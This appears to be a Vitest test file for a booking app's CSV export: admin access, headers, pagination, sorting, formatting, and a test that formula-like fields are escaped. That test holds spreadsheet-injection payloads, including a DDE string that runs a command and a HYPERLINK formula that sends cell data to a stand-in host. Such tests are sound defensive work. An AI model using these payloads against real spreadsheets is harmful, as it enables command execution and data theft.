import Papa from "papaparse";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import { insertRows } from "#drizzle/insert-rows.ts";
import { bookings } from "#drizzle/schema/bookings.ts";
import { BOOKING_SORTS, BOOKINGS_PAGE_SIZE, SHEET_PAGE_SIZE } from "#server/bookings/list/contract.ts";
import { studioToday, systemClock } from "#server/platform/clock.ts";
import { newBooking } from "#tests/factories/booking.ts";
import { newPerson, signedIn } from "#tests/support/staff.ts";
import { type Studio, startStudio } from "#tests/support/studio.ts";
import { createVisitor, type Visitor } from "#tests/support/visitor.ts";

const EXPORT = "/api/booking-list/export.csv";

let studio: Studio;
let admin: Visitor;
beforeAll(async () => {
  studio = await startStudio();
  admin = await signedIn(studio);
});
beforeEach(() => studio.reset());
afterEach(() => studio.expectNoErrors());
afterAll(() => studio?.close());

async function sheet(query = "") {
  const answer = await admin.get(`${EXPORT}${query}`);
  expect(answer.status).toBe(200);
  const bytes = new Uint8Array(await answer.arrayBuffer());
  // Decoding as text drops the byte order mark, so check the bytes.
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  const { data, errors } = Papa.parse<Record<string, string>>(text.trimEnd(), { header: true });
  expect(errors).toEqual([]);
  return { answer, text, rows: data };
}

it("the export is an uncached file, only for admins", async () => {
  const { answer } = await sheet();
  expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(answer.headers.get("content-disposition")).toBe(
    `attachment; filename="bookings-${studioToday(systemClock)}.csv"`,
  );
  expect(answer.headers.get("cache-control")).toBe("no-store");
  expect((await createVisitor(studio).get(EXPORT)).status).toBe(401);
  const plain = await signedIn(studio, (await newPerson(studio)).credentials);
  expect((await plain.get(EXPORT)).status).toBe(403);
});

it("leaves a cell empty when a couple who called gave no email address", async () => {
  await newBooking(studio, { email: null, phone: "+1 323 555 0101" });
  expect((await sheet()).rows).toMatchObject([{ Email: "" }]);
});

it("S28 a couple whose every field begins like a formula is text in each cell", async () => {
  await newBooking(studio, {
    brideName: '=HYPERLINK("https://e.example?"&A1,"Ana")',
    groomName: "+cmd|' /C calc'!A0",
    email: "-1@example.com",
    phone: "+1 (323) 555-0100",
    venue: "@SUM(1+1)",
    packageName: "\t=1",
    message: "=1+1\nsecond line, with a comma",
    closedReason: "\r=2",
    nextStep: "＝3",
  });
  const { rows } = await sheet();
  expect(rows).toHaveLength(1);
  expect(rows[0]).toMatchObject({
    Bride: `'=HYPERLINK("https://e.example?"&A1,"Ana")`,
    Groom: "'+cmd|' /C calc'!A0",
    Email: "'-1@example.com",
    Phone: "'+1 (323) 555-0100",
    Venue: "'@SUM(1+1)",
    Package: "'\t=1",
    Message: "'=1+1\nsecond line, with a comma",
    Reason: "'\r=2",
    "Next step": "'＝3",
  });
  for (const cell of Object.values(rows[0] ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
});

it("exports every page of the filtered list, in the list's order", async () => {
  for (let index = 0; index < 30; index += 1)
    await newBooking(studio, { brideName: `Ana ${String(index).padStart(2, "0")}`, venue: "Malibu" });
  await newBooking(studio, { brideName: "Bea", venue: "Ojai", status: "lost", closedReason: "Too far" });
  const malibu = await sheet("?q=malibu&sort=name&page=2");
  expect(malibu.rows.map(({ Bride }) => Bride)).toEqual(
    Array.from({ length: 30 }, (_, index) => `Ana ${String(index).padStart(2, "0")}`),
  );
  const closed = await sheet("?status=closed");
  expect(closed.rows).toMatchObject([{ Bride: "Bea", Status: "lost", Reason: "Too far" }]);
});

it("has no row limit: exports each booking once, in every order of the list", async () => {
  // For each sort key, several rows share a value across a page boundary.
  const rows = Array.from({ length: SHEET_PAGE_SIZE + 50 }, (_, index) => ({
    id: `many-${(index * 7919) % 10_007}`,
    submissionId: `many-${index}`,
    brideName: index % 2 ? "ana" : "Ana",
    groomName: `Ben ${index % 5}`,
    email: `couple-${index}@example.com`,
    weddingDate: `2031-01-${String(10 + (index % 9))}`,
    status: index % 3 ? ("new" as const) : ("lost" as const),
    createdAt: new Date(Date.UTC(2026, 0, 1 + (index % 4))),
  }));
  await insertRows(studio.database.open(), bookings, rows);
  const idOf = new Map(rows.map(({ id, email }) => [email, id]));
  // The list page that starts where the sheet's second page does.
  const page = SHEET_PAGE_SIZE / BOOKINGS_PAGE_SIZE + 1;
  for (const sort of BOOKING_SORTS) {
    studio.worker.clearLogs();
    const emails = (await sheet(`?sort=${sort}`)).rows.map(({ Email }) => Email ?? "");
    expect([sort, emails.length, new Set(emails).size]).toEqual([sort, rows.length, rows.length]);
    const { databaseCalls } = await studio.logged("bookings_exported");
    // At most three calls to find out who is asking, and one for each page.
    expect(Number(databaseCalls)).toBeLessThanOrEqual(5);
    const html = await (await admin.get(`/admin/bookings?sort=${sort}&page=${page}`)).text();
    const listed = [...html.matchAll(/href="\/admin\/bookings\/(many-\d+)/g)].map(([, id]) => id);
    const expected = emails.slice(SHEET_PAGE_SIZE, SHEET_PAGE_SIZE + BOOKINGS_PAGE_SIZE);
    expect([sort, ...new Set(listed)]).toEqual([sort, ...expected.map((email) => idOf.get(email))]);
  }
});

it("exports only the chosen bookings", async () => {
  const [one, , three] = [await newBooking(studio), await newBooking(studio), await newBooking(studio)];
  const { rows } = await sheet(`?id=${one?.id}&id=${three?.id}&id=no-such-booking&sort=oldest`);
  expect(rows.map(({ Email }) => Email).sort()).toEqual([one?.email, three?.email].sort());
});

it("formats money, dates and days as the studio reads them", async () => {
  await newBooking(studio, {
    packagePriceCents: 380_050,
    guestCount: 80,
    weddingDate: "2031-05-14",
    // The evening before in Los Angeles.
    createdAt: new Date("2026-03-02T04:00:00Z"),
  });
  const { rows } = await sheet();
  expect(rows[0]).toMatchObject({
    Price: "3800.5",
    Guests: "80",
    "Wedding date": "2031-05-14",
    "Asked on": "2026-03-01",
    "Answered on": "",
    "Came by": "site",
  });
});
